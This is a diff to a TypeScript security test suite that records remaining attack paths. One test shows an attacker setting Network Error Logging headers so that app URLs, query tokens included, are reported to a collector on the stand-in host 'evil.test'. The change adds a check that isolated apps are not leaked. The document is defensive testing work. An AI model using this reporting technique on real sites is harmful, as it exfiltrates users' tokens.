@@ -7,6 +7,7 @@ import { startApp } from '../cluster/apps/app.ts';
 import { addWorkload } from '../cluster/workload.ts';
 import { navigateTo } from './attacker-origins.ts';
 import { type Fixture, startFixture } from './fixture.ts';
+import { openIsolated } from './isolated-app.ts';
 import { respondAsQuery, responseQuery } from './scriptable-server.ts';
 
 /** What SECURITY.md says remains possible. A test here that fails means that something was fixed: remove it there, too. */
@@ -122,7 +123,7 @@ contexts: [{name: as-jane, context: {cluster: c, user: u}}]`,
 });
 
 describe('an app', () => {
-  it('has the URLs of all apps of its origin reported by Network Error Logging, queries included', async () => {
+  it('has the URLs of all apps of its origin in ordinary tabs reported by Network Error Logging, queries included', async () => {
     const allowed = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
     const collector = fixture.attackerUrl('evil.test') + responseQuery({ headers: allowed });
     const reports = JSON.stringify({ group: 'g', max_age: 3600, endpoints: [{ url: collector }] });
@@ -131,7 +132,15 @@ describe('an app', () => {
     await one.evaluate((url) => fetch(url), responseQuery({ headers: { 'Report-To': reports, NEL: logging } }));
     const mark = newMark();
     await fixture.open(`${fixture.victimApp}?token=${mark}`);
-    await waitFor(() => fixture.https.bodies.some((body) => body.includes(`webapp/proxy/?token=${mark}`)));
+    const isReported = (token: string) =>
+      fixture.https.bodies.some((body) => body.includes(`webapp/proxy/?token=${token}`));
+    await waitFor(() => isReported(mark));
+    // Opening apart ends that. The one that is opened last is reported last.
+    const [apart, last] = [newMark(), newMark()];
+    await openIsolated(fixture, `${fixture.victimApp}?token=${apart}`);
+    await fixture.open(`${fixture.victimApp}?token=${last}`);
+    await waitFor(() => isReported(last));
+    expect(isReported(apart)).toBe(false);
   });
 
   // The last test, because it leaves the vault locked.
